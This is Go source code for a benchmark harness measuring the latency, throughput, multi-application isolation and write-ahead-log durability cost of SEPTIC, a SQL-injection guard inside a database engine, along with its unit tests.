		return "YN"
	case ConfigNY:
		return "NY"
	case ConfigYY:
		return "YY"
	default:
		return fmt.Sprintf("SepticConfig(%d)", int(c))
	}
}

// Configs lists the SEPTIC configurations in figure order.
func Configs() []SepticConfig {
	return []SepticConfig{ConfigNN, ConfigYN, ConfigNY, ConfigYY}
}

// coreConfig maps a figure configuration to a SEPTIC config.
func coreConfig(c SepticConfig) core.Config {
	cfg := core.Config{Mode: core.ModePrevention, IncrementalLearning: true}
	switch c {
	case ConfigYN:
		cfg.DetectSQLI = true
	case ConfigNY:
		cfg.DetectStored = true
	case ConfigYY:
		cfg.DetectSQLI = true
		cfg.DetectStored = true
	}
	return cfg
}

// CoreConfig maps the figure configuration to the SEPTIC core config it
// names. Exported so satellite harnesses (wirebench) can deploy guards
// configured exactly like the latency harness does.
func (c SepticConfig) CoreConfig() core.Config { return coreConfig(c) }

// AppSpec describes one application deployment for the harness.
type AppSpec struct {
	// Name labels the series ("Address Book", "refbase", "ZeroCMS").
	Name string
	// Prefix is the application prefix of the app's external query
	// identifiers ("ab" for "/* ab:list */ …") — the name its protection
	// domain is registered under in multi-domain replays.
	Prefix string
	// Schema is run once against the raw engine.
	Schema []string
	// Build constructs the application over the engine.
	Build func(webapp.Executor) *webapp.App
	// Training covers every page (SEPTIC model learning).
	Training []webapp.Request
	// Workload is the recorded request trace to replay.
	Workload []webapp.Request
}

// Params sets the replay scale, mirroring the paper's client topology.
type Params struct {
	// Machines is the number of client machines (paper: 1..4).
	Machines int
	// BrowsersPerMachine is the per-machine browser count (paper: 1..5).
	BrowsersPerMachine int
	// Loops is how many times each browser replays the workload.
	Loops int
	// WebTierWork models the non-DBMS share of each request — Apache,
	// PHP Zend rendering and the network path of the paper's testbed —
	// as deterministic CPU work (SHA-256 rounds) inside the measured
	// window. The paper's latency is end-to-end, so DBMS-side overhead
	// is diluted by this stack; measuring the bare engine instead would
	// inflate SEPTIC's relative overhead by an order of magnitude.
	// Zero means "bare DBMS" (used by the placement ablation).
	WebTierWork int
	// HTTP serves the application through a real HTTP server on
	// loopback and drives the browsers through net/http clients — the
	// paper's actual request path, with genuine network and protocol
	// cost instead of (or on top of) the synthetic WebTierWork.
	HTTP bool
	// Obs, when non-nil, instruments the deployment (engine stage
	// histograms and core hook histograms land in this hub) — the
	// septic-bench -obs mode. nil keeps the measured pipeline on its
	// instrumentation-free path.
	Obs *obs.Hub
}

// DefaultWebTierWork calibrates the web tier to dominate the request the
// way Apache+Zend+network dominated the paper's end-to-end latency. The
// value is a compromise: large enough that SEPTIC's overhead lands in
// the paper's low-single-digit-percent regime, small enough that the
// deltas between configurations stay above the measurement noise of an
// in-process, shared-core harness.
const DefaultWebTierWork = 500

// DefaultParams is the default overhead-measurement scale. The paper's
// client topology (up to 4 machines × 5 browsers) exists to load the
// server; the *overhead* metric itself is a latency ratio, which on a
// shared-core host is only measurable without self-inflicted queueing —
// so the default measures sequentially and leaves the topology to the
// scalability sweep.
func DefaultParams() Params {
	return Params{Machines: 1, BrowsersPerMachine: 1, Loops: 150, WebTierWork: DefaultWebTierWork}
}

// Sample is one measured configuration run.
type Sample struct {
	Config   SepticConfig
	Requests int
	Errors   int
	// TotalLatency is the sum over requests (for the mean).
	TotalLatency time.Duration
	// Latencies holds every request latency for percentiles.
	Latencies []time.Duration
}

// Mean returns the average request latency.
func (s *Sample) Mean() time.Duration {
	if s.Requests == 0 {
		return 0
	}
	return s.TotalLatency / time.Duration(s.Requests)
}

// TrimmedMean returns the mean after discarding the slowest trimPct
// percent of requests — the GC pauses and scheduler preemptions that an
// in-process harness cannot avoid and the paper's testbed averaged away
// with millions of requests.
func (s *Sample) TrimmedMean(trimPct float64) time.Duration {
	if len(s.Latencies) == 0 {
		return 0
	}
	sorted := make([]time.Duration, len(s.Latencies))
	copy(sorted, s.Latencies)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i] < sorted[j] })
	keep := len(sorted) - int(float64(len(sorted))*trimPct/100)
	if keep < 1 {
		keep = 1
	}
	var total time.Duration
	for _, d := range sorted[:keep] {
		total += d
	}
	return total / time.Duration(keep)
}

// Percentile returns the p-th percentile latency (p in (0,100]).
func (s *Sample) Percentile(p float64) time.Duration {
	if len(s.Latencies) == 0 {
		return 0
	}
	sorted := make([]time.Duration, len(s.Latencies))
	copy(sorted, s.Latencies)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i] < sorted[j] })
	idx := int(p/100*float64(len(sorted))) - 1
	if idx < 0 {
		idx = 0
	}
	if idx >= len(sorted) {
		idx = len(sorted) - 1
	}
	return sorted[idx]
}

// webTier burns the calibrated CPU work standing in for the Apache/PHP
// half of the request, seeded with the page body so the compiler cannot
// elide it.
func webTier(body string, rounds int) {
	if rounds <= 0 {
		return
	}
	var buf [32]byte
	n := copy(buf[:], body)
	_ = n
	for i := 0; i < rounds; i++ {
		buf = sha256.Sum256(buf[:])
	}
	webTierSink = buf[0]
}

// webTierSink defeats dead-code elimination of the web-tier work.
var webTierSink byte

// deploy builds one application deployment for the given configuration:
// schema applied, SEPTIC trained (when installed) and switched to the
// measured configuration. The returned guard is nil for the baseline.
func deploy(spec AppSpec, cfg SepticConfig, hub *obs.Hub) (*webapp.App, *core.Septic, error) {
	var (
		db    *engine.DB
		guard *core.Septic
	)
	var engineOpts []engine.Option
	if hub != nil {
		engineOpts = append(engineOpts, engine.WithObs(hub))
	}
	if cfg == ConfigBaseline {
		db = engine.New(engineOpts...)
	} else {
		var coreOpts []core.SepticOption
		if hub != nil {
			coreOpts = append(coreOpts, core.WithObserver(hub))
		}
		guard = core.New(core.Config{Mode: core.ModeTraining}, coreOpts...)
		db = engine.New(append(engineOpts, engine.WithQueryHook(guard))...)
	}
	for _, q := range spec.Schema {
		if _, err := db.Exec(q); err != nil {
			return nil, nil, fmt.Errorf("schema: %w", err)
		}
	}
	app := spec.Build(db)
	// Training phase (also warms the engine for the baseline so both
	// sides measure a populated database).
	for _, req := range spec.Training {
		if resp := app.Serve(req.Clone()); resp.Status != 200 {
			return nil, nil, fmt.Errorf("training %s: %v", req, resp.Err)
		}
	}
	if guard != nil {
		guard.SetConfig(coreConfig(cfg))
	}
	return app, guard, nil
}

// Run measures one application under one configuration: it builds a
// fresh deployment, trains SEPTIC (when installed), then replays the
// workload from Machines×BrowsersPerMachine concurrent browsers.
func Run(spec AppSpec, cfg SepticConfig, p Params) (*Sample, error) {
	app, _, err := deploy(spec, cfg, p.Obs)
	if err != nil {
		return nil, err
	}

	issue := func(req webapp.Request) (int, string) {
		resp := app.Serve(req.Clone())
		return resp.Status, resp.Body
	}
	if p.HTTP {
		srv := httptest.NewServer(webapp.HTTPHandler(app))
		defer srv.Close()
		client := srv.Client()
		issue = func(req webapp.Request) (int, string) {
			values := make(url.Values, len(req.Params))
			for k, v := range req.Params {
				values.Set(k, v)
			}
			target := srv.URL + req.Path
			if len(values) > 0 {
				target += "?" + values.Encode()
			}
			resp, err := client.Get(target)
			if err != nil {
				return 599, ""
			}
			body, _ := io.ReadAll(resp.Body)
			_ = resp.Body.Close()
			return resp.StatusCode, string(body)
		}
	}

	browsers := p.Machines * p.BrowsersPerMachine
	sample := &Sample{Config: cfg}
	var mu sync.Mutex
	var wg sync.WaitGroup
	for b := 0; b < browsers; b++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			local := make([]time.Duration, 0, p.Loops*len(spec.Workload))
			errs := 0
			for loop := 0; loop < p.Loops; loop++ {
				for _, req := range spec.Workload {
					start := time.Now()
					status, body := issue(req)
					webTier(body, p.WebTierWork)
					elapsed := time.Since(start)
					local = append(local, elapsed)
					if status != 200 {
						errs++
					}
				}
			}
			mu.Lock()
			for _, d := range local {
				sample.TotalLatency += d
			}
			sample.Latencies = append(sample.Latencies, local...)
			sample.Requests += len(local)
			sample.Errors += errs
			mu.Unlock()
		}()
	}
	wg.Wait()
	return sample, nil
}

// Throughput is the result of one parallel replay: aggregate requests
// over wall-clock time, the load-test view of the Fig. 5 deployment.
type Throughput struct {
	Config   SepticConfig
	Machines int
	Browsers int
	Requests int
	Errors   int
	Elapsed  time.Duration
	// Cache reports SEPTIC's verdict-cache counters for the replay
	// (zero-valued for the baseline, which has no guard installed).
	Cache core.CacheStats
}

// CacheHitRate returns the fraction of verdict-cache lookups served from
// cache, in [0,1]; 0 when no lookups happened.
func (t *Throughput) CacheHitRate() float64 {
	total := t.Cache.Hits + t.Cache.Misses
	if total == 0 {
		return 0
	}
	return float64(t.Cache.Hits) / float64(total)
}

// PerSecond returns the aggregate request rate.
func (t *Throughput) PerSecond() float64 {
	if t.Elapsed <= 0 {
		return 0
	}
	return float64(t.Requests) / t.Elapsed.Seconds()
}

// RunParallel is the parallel replay mode: K = Machines client machines,
// each running BrowsersPerMachine browser goroutines, replay the
// workload concurrently against one deployment, and the aggregate
// throughput is measured. Where Run answers Fig. 5's latency-overhead
// question, RunParallel answers the scaling question behind it: does the
// SEPTIC-enabled server keep serving as client machines are added? With
// the contention-free hot path, throughput should grow with machines
// until the host's cores saturate.
func RunParallel(spec AppSpec, cfg SepticConfig, p Params) (*Throughput, error) {
	app, guard, err := deploy(spec, cfg, p.Obs)
	if err != nil {
		return nil, err
	}
	browsers := p.Machines * p.BrowsersPerMachine
	out := &Throughput{Config: cfg, Machines: p.Machines, Browsers: browsers}
	var errs atomic.Int64
	var wg sync.WaitGroup
	start := time.Now()
	for b := 0; b < browsers; b++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for loop := 0; loop < p.Loops; loop++ {
				for _, req := range spec.Workload {
					resp := app.Serve(req.Clone())
					webTier(resp.Body, p.WebTierWork)
					if resp.Status != 200 {
						errs.Add(1)
					}
				}
			}
		}()
	}
	wg.Wait()
	out.Elapsed = time.Since(start)
	out.Requests = browsers * p.Loops * len(spec.Workload)
	out.Errors = int(errs.Load())
	if guard != nil {
		out.Cache = guard.CacheStats()
	}
	return out, nil
}

// Overhead is one Fig. 5 data point: a configuration's mean latency
// relative to the baseline.
type Overhead struct {
	App     string
	Config  SepticConfig
	Mean    time.Duration
	Base    time.Duration
	Percent float64
}

// Series runs the full Fig. 5 sweep for one application: baseline plus
// the four SEPTIC configurations. Rounds are interleaved — each round
// measures the baseline and every configuration back to back — so slow
// host-level drift (GC, other tenants on a shared core) cancels out of
// the ratio, and the best mean per configuration is kept (standard
// practice for in-process latency comparison).
func Series(spec AppSpec, p Params, rounds int) ([]Overhead, error) {
	if rounds < 1 {
		rounds = 1
	}
	order := append([]SepticConfig{ConfigBaseline}, Configs()...)
	mins := make(map[SepticConfig]time.Duration, len(order))
	for r := 0; r < rounds; r++ {
		for _, cfg := range order {
			s, err := Run(spec, cfg, p)
			if err != nil {
				return nil, err
			}
			if s.Errors > 0 {
				return nil, fmt.Errorf("%s/%s: %d request errors", spec.Name, cfg, s.Errors)
			}
			if m := s.TrimmedMean(10); mins[cfg] == 0 || m < mins[cfg] {
				mins[cfg] = m
			}
		}
	}
	base := mins[ConfigBaseline]
	out := make([]Overhead, 0, len(Configs()))
	for _, cfg := range Configs() {
		mean := mins[cfg]
		pct := 100 * (float64(mean) - float64(base)) / float64(base)
		out = append(out, Overhead{
			App: spec.Name, Config: cfg, Mean: mean, Base: base, Percent: pct,
		})
	}
	return out, nil
}

// FormatFig5 renders overheads grouped like the paper's figure.
func FormatFig5(all [][]Overhead) string {
	var b fmt.Stringer = &fig5{rows: all}
	return b.String()
}

type fig5 struct {
	rows [][]Overhead
}

func (f *fig5) String() string {
	out := "Fig. 5 — average latency overhead of SEPTIC configurations\n"
	out += fmt.Sprintf("%-14s", "app")
	for _, cfg := range Configs() {
		out += fmt.Sprintf("%10s", cfg.String())
	}
	out += "\n"
	for _, series := range f.rows {
		if len(series) == 0 {
			continue
		}
		out += fmt.Sprintf("%-14s", series[0].App)
		for _, o := range series {
			out += fmt.Sprintf("%9.2f%%", o.Percent)
		}
		out += "\n"
	}
	return out
}
