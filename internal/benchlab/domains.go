package benchlab

import (
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/webapp"
)

// DomainThroughput is one application's share of a multi-domain replay:
// its request counts plus its protection domain's own counters, which is
// what makes the isolation claim measurable — every model learned and
// every attack blocked is attributed to exactly one domain.
type DomainThroughput struct {
	App    string
	Domain string

	Requests int
	Errors   int

	// Stats is the domain's counter snapshot after the replay.
	Stats core.Stats
	// Models is the domain's model-store size after the replay.
	Models int
}

// CacheHitRate returns the fraction of the domain's verdict-cache
// lookups served from cache, in [0,1].
func (d *DomainThroughput) CacheHitRate() float64 {
	total := d.Stats.Cache.Hits + d.Stats.Cache.Misses
	if total == 0 {
		return 0
	}
	return float64(d.Stats.Cache.Hits) / float64(total)
}

// DomainsResult is the outcome of one RunDomains replay.
type DomainsResult struct {
	Domains []DomainThroughput
	Elapsed time.Duration
}

// RunDomains is the multi-tenant replay: the paper's deployment of ONE
// SEPTIC inside one DBMS protecting several applications at once. All
// specs are deployed against a single engine with a single guard, each
// behind its own protection domain (registered under the spec's query
// prefix, so "/* ab:list */ …" routes itself); each domain is trained by
// its application's training trace, switched to prevention (YY), and
// then every application's workload replays CONCURRENTLY —
// p.Machines×p.BrowsersPerMachine browsers per application — against the
// shared server. The per-domain counters afterwards show the isolation:
// models, verdicts, hits and blocks never cross domains.
//
// Specs must have distinct non-empty Prefixes and disjoint table names
// (the four paper applications do).
func RunDomains(specs []AppSpec, p Params) (*DomainsResult, error) {
	if len(specs) == 0 {
		return nil, fmt.Errorf("no application specs")
	}
	var coreOpts []core.SepticOption
	var engineOpts []engine.Option
	if p.Obs != nil {
		coreOpts = append(coreOpts, core.WithObserver(p.Obs))
		engineOpts = append(engineOpts, engine.WithObs(p.Obs))
	}
	// The default domain only sees the schema DDL (no external IDs on
	// CREATE TABLE); training mode there keeps setup friction-free.
	guard := core.New(core.Config{Mode: core.ModeTraining}, coreOpts...)
	db := engine.New(append(engineOpts, engine.WithQueryHook(guard))...)

	type deployment struct {
		spec   AppSpec
		app    *webapp.App
		domain *core.Domain
	}
	deps := make([]deployment, 0, len(specs))
	for _, spec := range specs {
		if spec.Prefix == "" {
			return nil, fmt.Errorf("%s: spec has no domain prefix", spec.Name)
		}
		d, err := guard.RegisterDomain(spec.Prefix, core.Config{
			Mode: core.ModeTraining, IncrementalLearning: true,
		})
		if err != nil {
			return nil, fmt.Errorf("%s: %w", spec.Name, err)
		}
		for _, q := range spec.Schema {
			if _, err := db.Exec(q); err != nil {
				return nil, fmt.Errorf("%s schema: %w", spec.Name, err)
			}
		}
		app := spec.Build(db)
		for _, req := range spec.Training {
			if resp := app.Serve(req.Clone()); resp.Status != 200 {
				return nil, fmt.Errorf("%s training %s: %v", spec.Name, req, resp.Err)
			}
		}
		deps = append(deps, deployment{spec: spec, app: app, domain: d})
	}
	// Lifecycle switch, per domain: training is over, prevention (YY) is
	// on. The default domain and every other domain are untouched by each
	// switch — that independence is the point.
	for _, dep := range deps {
		dep.domain.SetConfig(core.Config{
			Mode:                core.ModePrevention,
			DetectSQLI:          true,
			DetectStored:        true,
			IncrementalLearning: true,
		})
	}

	browsers := p.Machines * p.BrowsersPerMachine
	if browsers < 1 {
		browsers = 1
	}
	errCounts := make([]atomic.Int64, len(deps))
	var wg sync.WaitGroup
	start := time.Now()
	for i := range deps {
		dep := deps[i]
		for b := 0; b < browsers; b++ {
			wg.Add(1)
			go func(i int) {
				defer wg.Done()
				for loop := 0; loop < p.Loops; loop++ {
					for _, req := range dep.spec.Workload {
						resp := dep.app.Serve(req.Clone())
						webTier(resp.Body, p.WebTierWork)
						if resp.Status != 200 {
							errCounts[i].Add(1)
						}
					}
				}
			}(i)
		}
	}
	wg.Wait()
	elapsed := time.Since(start)

	out := &DomainsResult{Elapsed: elapsed}
	for i, dep := range deps {
		out.Domains = append(out.Domains, DomainThroughput{
			App:      dep.spec.Name,
			Domain:   dep.domain.Name(),
			Requests: browsers * p.Loops * len(dep.spec.Workload),
			Errors:   int(errCounts[i].Load()),
			Stats:    dep.domain.Stats(),
			Models:   dep.domain.Store().ModelCount(),
		})
	}
	return out, nil
}
