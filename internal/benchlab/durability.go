package benchlab

import (
	"fmt"
	"strings"
	"time"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/sqlparser"
	"github.com/septic-db/septic/internal/wal"
)

// The durability lane measures what crash safety costs on the training
// path: each Put of a newly learned model appends to the write-ahead
// log before it is acknowledged, so the interesting number is the
// per-update latency at each fsync policy against the no-WAL baseline.
// Detection-path traffic is untouched by durability (verdicts are not
// logged), which the overhead table makes visible by also replaying a
// detection-mode pass over the trained store.

// DurabilityRow is one policy's measurement.
type DurabilityRow struct {
	// Policy is "off" (no WAL) or the wal.FsyncPolicy name.
	Policy string
	// TrainPerUpdate is the mean wall time of one training-path hook
	// call (parse excluded; every call learns a new model and appends).
	TrainPerUpdate time.Duration
	// DetectPerQuery is the mean detection-mode hook call over the
	// trained store (cached verdicts disabled) — durability must not
	// show up here.
	DetectPerQuery time.Duration
	// Appends and Fsyncs are the WAL's counters after the run.
	Appends int64
	Fsyncs  int64
}

// DurabilityPolicies lists the measured configurations in report order.
func DurabilityPolicies() []string {
	return []string{"off", "never", "interval", "always"}
}

// RunDurability replays `updates` distinct training queries through the
// full hook path for each policy, each in a fresh WAL directory under
// dir, and returns one row per policy. Queries are made distinct by a
// "/* qN */" comment identifier, so every training call stores a model
// and therefore appends one WAL record.
func RunDurability(dir string, updates int) ([]DurabilityRow, error) {
	// Pre-parse outside the timed region: the parse cost is identical
	// across policies and would only dilute the overhead being measured.
	ctxs := make([]*engine.HookContext, updates)
	for i := range ctxs {
		q := fmt.Sprintf("/* q%06d */ SELECT a FROM t WHERE b = %d", i, i)
		stmt, err := sqlparser.Parse(q)
		if err != nil {
			return nil, err
		}
		ctxs[i] = &engine.HookContext{
			Raw: q, Decoded: q, Stmt: stmt, Comments: stmt.StatementComments(),
		}
	}

	var rows []DurabilityRow
	for _, policy := range DurabilityPolicies() {
		guard := core.New(core.Config{Mode: core.ModeTraining},
			core.WithLogger(core.NewLogger(core.WithCheckedSampling(0))),
			core.WithVerdictCacheCapacity(0))
		var persist *core.Persistence
		if policy != "off" {
			fp, err := wal.ParseFsyncPolicy(policy)
			if err != nil {
				return nil, err
			}
			persist, err = guard.AttachPersistence(core.PersistenceOptions{
				Dir:   fmt.Sprintf("%s/wal-%s", dir, policy),
				Fsync: fp,
			})
			if err != nil {
				return nil, err
			}
		}

		start := time.Now()
		for _, hctx := range ctxs {
			if err := guard.BeforeExecute(hctx); err != nil {
				return nil, fmt.Errorf("policy %s: train: %w", policy, err)
			}
		}
		trainPer := time.Since(start) / time.Duration(updates)

		guard.SetConfig(core.Config{
			Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true,
		})
		start = time.Now()
		for _, hctx := range ctxs {
			if err := guard.BeforeExecute(hctx); err != nil {
				return nil, fmt.Errorf("policy %s: detect: %w", policy, err)
			}
		}
		detectPer := time.Since(start) / time.Duration(updates)

		row := DurabilityRow{Policy: policy, TrainPerUpdate: trainPer, DetectPerQuery: detectPer}
		if persist != nil {
			st := persist.Stats()
			row.Appends = st.WAL.Appends
			row.Fsyncs = st.WAL.Fsyncs
			if err := persist.Close(); err != nil {
				return nil, err
			}
		}
		rows = append(rows, row)
	}
	return rows, nil
}

// FormatDurability renders the rows as the EXPERIMENTS.md table:
// per-update training latency, overhead vs the no-WAL baseline, and the
// detection-path latency showing durability stays off the read path.
func FormatDurability(rows []DurabilityRow) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-10s %14s %10s %14s %10s %10s\n",
		"policy", "train/update", "overhead", "detect/query", "appends", "fsyncs")
	var base time.Duration
	for _, r := range rows {
		if r.Policy == "off" {
			base = r.TrainPerUpdate
		}
	}
	for _, r := range rows {
		over := "—"
		if r.Policy != "off" && base > 0 {
			over = fmt.Sprintf("%+.0f%%", 100*(float64(r.TrainPerUpdate)/float64(base)-1))
		}
		fmt.Fprintf(&b, "%-10s %14s %10s %14s %10d %10d\n",
			r.Policy, r.TrainPerUpdate, over, r.DetectPerQuery, r.Appends, r.Fsyncs)
	}
	return b.String()
}
