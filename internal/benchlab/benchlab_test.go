package benchlab

import (
	"strings"
	"testing"
	"time"
)

func smallParams() Params {
	return Params{Machines: 2, BrowsersPerMachine: 2, Loops: 2}
}

func TestRunBaselineAndConfigs(t *testing.T) {
	spec := PaperSpecs()[0] // Address Book
	p := smallParams()
	for _, cfg := range append([]SepticConfig{ConfigBaseline}, Configs()...) {
		s, err := Run(spec, cfg, p)
		if err != nil {
			t.Fatalf("Run(%s): %v", cfg, err)
		}
		wantReqs := p.Machines * p.BrowsersPerMachine * p.Loops * len(spec.Workload)
		if s.Requests != wantReqs {
			t.Errorf("%s: requests = %d, want %d", cfg, s.Requests, wantReqs)
		}
		if s.Errors != 0 {
			t.Errorf("%s: %d request errors", cfg, s.Errors)
		}
		if s.Mean() <= 0 {
			t.Errorf("%s: mean latency %v", cfg, s.Mean())
		}
		if s.Percentile(50) > s.Percentile(99) {
			t.Errorf("%s: p50 %v > p99 %v", cfg, s.Percentile(50), s.Percentile(99))
		}
	}
}

func TestRunAllPaperSpecs(t *testing.T) {
	p := Params{Machines: 1, BrowsersPerMachine: 2, Loops: 1}
	for _, spec := range PaperSpecs() {
		t.Run(spec.Name, func(t *testing.T) {
			s, err := Run(spec, ConfigYY, p)
			if err != nil {
				t.Fatalf("Run: %v", err)
			}
			if s.Errors != 0 {
				t.Errorf("%d request errors (false positives under YY?)", s.Errors)
			}
		})
	}
}

func TestWaspMonSpecRuns(t *testing.T) {
	s, err := Run(WaspMonSpec(), ConfigYY, Params{Machines: 1, BrowsersPerMachine: 1, Loops: 2})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if s.Errors != 0 {
		t.Errorf("%d request errors", s.Errors)
	}
}

func TestSeriesProducesFourPoints(t *testing.T) {
	series, err := Series(PaperSpecs()[1], Params{Machines: 1, BrowsersPerMachine: 2, Loops: 1}, 1)
	if err != nil {
		t.Fatalf("Series: %v", err)
	}
	if len(series) != 4 {
		t.Fatalf("series = %d points, want 4", len(series))
	}
	for i, cfg := range Configs() {
		if series[i].Config != cfg {
			t.Errorf("point %d config = %s, want %s", i, series[i].Config, cfg)
		}
		if series[i].Base <= 0 || series[i].Mean <= 0 {
			t.Errorf("point %d has zero latency: %+v", i, series[i])
		}
	}
}

func TestFormatFig5(t *testing.T) {
	rows := [][]Overhead{{
		{App: "Address Book", Config: ConfigNN, Percent: 0.5},
		{App: "Address Book", Config: ConfigYN, Percent: 0.8},
		{App: "Address Book", Config: ConfigNY, Percent: 1.5},
		{App: "Address Book", Config: ConfigYY, Percent: 2.2},
	}}
	out := FormatFig5(rows)
	for _, want := range []string{"Fig. 5", "NN", "YY", "Address Book", "2.20%"} {
		if !strings.Contains(out, want) {
			t.Errorf("output missing %q:\n%s", want, out)
		}
	}
}

func TestSamplePercentiles(t *testing.T) {
	s := &Sample{}
	for i := 1; i <= 100; i++ {
		s.Latencies = append(s.Latencies, time.Duration(i)*time.Millisecond)
	}
	if got := s.Percentile(50); got != 50*time.Millisecond {
		t.Errorf("p50 = %v", got)
	}
	if got := s.Percentile(100); got != 100*time.Millisecond {
		t.Errorf("p100 = %v", got)
	}
	empty := &Sample{}
	if empty.Percentile(50) != 0 || empty.Mean() != 0 {
		t.Error("empty sample should be zero")
	}
}

func TestConfigStrings(t *testing.T) {
	want := map[SepticConfig]string{
		ConfigBaseline: "base", ConfigNN: "NN", ConfigYN: "YN",
		ConfigNY: "NY", ConfigYY: "YY",
	}
	for cfg, s := range want {
		if cfg.String() != s {
			t.Errorf("%d.String() = %q, want %q", cfg, cfg.String(), s)
		}
	}
}

func TestRunOverHTTP(t *testing.T) {
	p := Params{Machines: 1, BrowsersPerMachine: 2, Loops: 1, HTTP: true}
	s, err := Run(PaperSpecs()[0], ConfigYY, p)
	if err != nil {
		t.Fatalf("Run over HTTP: %v", err)
	}
	if s.Errors != 0 {
		t.Errorf("%d request errors over HTTP", s.Errors)
	}
	if s.Mean() <= 0 {
		t.Errorf("mean = %v", s.Mean())
	}
}
