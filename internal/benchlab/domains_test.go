package benchlab

import (
	"strings"
	"sync"
	"testing"

	"github.com/septic-db/septic/internal/attacks"
	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
)

// TestRunDomainsIsolatedStores replays every paper application
// concurrently against ONE server, each behind its own protection
// domain, and checks the isolation ledger: every domain learned its own
// models, every learned identifier carries the domain's own prefix, and
// nothing was blocked (the workloads are benign and trained).
func TestRunDomainsIsolatedStores(t *testing.T) {
	specs := append(PaperSpecs(), WaspMonSpec())
	p := Params{Machines: 1, BrowsersPerMachine: 2, Loops: 2}
	res, err := RunDomains(specs, p)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Domains) != len(specs) {
		t.Fatalf("domains = %d, want %d", len(res.Domains), len(specs))
	}
	for i, d := range res.Domains {
		spec := specs[i]
		wantReqs := 2 * p.Loops * len(spec.Workload)
		if d.Requests != wantReqs {
			t.Errorf("%s: requests = %d, want %d", d.App, d.Requests, wantReqs)
		}
		if d.Errors != 0 {
			t.Errorf("%s: %d request errors", d.App, d.Errors)
		}
		if d.Models == 0 {
			t.Errorf("%s: no models learned in its domain", d.App)
		}
		if d.Stats.AttacksBlocked != 0 {
			t.Errorf("%s: %d benign requests blocked", d.App, d.Stats.AttacksBlocked)
		}
		if d.Stats.QueriesSeen == 0 {
			t.Errorf("%s: domain saw no queries", d.App)
		}
	}
}

// TestDomainIsolationConcurrentReplay is the acceptance scenario of the
// protection-domain refactor: one SEPTIC, one DBMS, two applications —
// Address Book still in ModeTraining (learning on every request) while
// WaspMon already runs ModePrevention. Concurrently with Address Book's
// training churn, WaspMon must block the paper's Fig. 2–4 attack corpus
// and keep serving its benign workload; and none of Address Book's
// learning may touch WaspMon's store, generation or cached verdicts.
func TestDomainIsolationConcurrentReplay(t *testing.T) {
	guard := core.New(core.Config{Mode: core.ModeTraining})
	db := engine.New(engine.WithQueryHook(guard))

	// Domain B: WaspMon — train, then prevention (YY, no incremental
	// learning, like the demo's phase D).
	wm := WaspMonSpec()
	bDom, err := guard.RegisterDomain(wm.Prefix, core.Config{
		Mode: core.ModeTraining, IncrementalLearning: true,
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, q := range wm.Schema {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("waspmon schema: %v", err)
		}
	}
	bApp := wm.Build(db)
	for _, req := range wm.Training {
		if resp := bApp.Serve(req.Clone()); resp.Status != 200 {
			t.Fatalf("waspmon training %s: %v", req, resp.Err)
		}
	}
	bDom.SetConfig(core.Config{
		Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true,
	})

	// Domain A: Address Book — stays in training for the whole test.
	ab := PaperSpecs()[0]
	aDom, err := guard.RegisterDomain(ab.Prefix, core.Config{
		Mode: core.ModeTraining, IncrementalLearning: true,
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, q := range ab.Schema {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("address book schema: %v", err)
		}
	}
	aApp := ab.Build(db)
	// One synchronous pass so A has verifiably learned even if the
	// background churn barely gets scheduled.
	for _, req := range ab.Training {
		if resp := aApp.Serve(req.Clone()); resp.Status != 200 {
			t.Fatalf("address book training %s: %v", req, resp.Err)
		}
	}

	bGen := bDom.Store().Generation()
	bModels := bDom.Store().ModelCount()

	// A trains continuously in the background while B is attacked.
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			for _, req := range ab.Training {
				_ = aApp.Serve(req.Clone())
			}
			for _, req := range ab.Workload {
				_ = aApp.Serve(req.Clone())
			}
		}
	}()

	// B's trained benign workload keeps passing under prevention (checked
	// before the attacks so stored-attack payloads can't contaminate it).
	for _, req := range wm.Workload {
		if resp := bApp.Serve(req.Clone()); resp.Status != 200 {
			t.Errorf("benign %s failed under prevention: %v", req, resp.Err)
		}
	}
	// ... and the Fig. 2–4 corpus must be blocked, every case, while A's
	// training churns in the background.
	for _, c := range attacks.Corpus() {
		blocked := false
		for _, setup := range c.Setup {
			if resp := bApp.Serve(setup.Clone()); resp.Blocked {
				blocked = true
			}
		}
		if resp := bApp.Serve(c.Request.Clone()); resp.Blocked {
			blocked = true
		}
		if !blocked {
			t.Errorf("attack %s (%s) not blocked while A trains", c.Name, c.Class)
		}
	}
	close(stop)
	wg.Wait()

	// The isolation ledger.
	if aDom.Store().ModelCount() == 0 {
		t.Fatal("A learned nothing — the test exercised no cross-domain churn")
	}
	if got := bDom.Store().Generation(); got != bGen {
		t.Errorf("B's store generation moved %d → %d under A's training", bGen, got)
	}
	if got := bDom.Store().ModelCount(); got != bModels {
		t.Errorf("B's model count moved %d → %d under A's training", bModels, got)
	}
	if inv := bDom.CacheStats().Invalidations; inv != 0 {
		t.Errorf("B had %d verdict invalidations; A's learning must not touch B's cache", inv)
	}
	if bDom.Stats().AttacksBlocked == 0 {
		t.Error("B blocked nothing")
	}
	if aDom.Stats().AttacksFound != 0 {
		t.Errorf("A (training) reported %d attacks", aDom.Stats().AttacksFound)
	}
	// Every identifier in each store belongs to its own application.
	for _, id := range bDom.Store().IDs() {
		if !strings.HasPrefix(id, wm.Prefix+":") {
			t.Errorf("foreign identifier %q in B's store", id)
		}
	}
	for _, id := range aDom.Store().IDs() {
		if !strings.HasPrefix(id, ab.Prefix+":") {
			t.Errorf("foreign identifier %q in A's store", id)
		}
	}
}
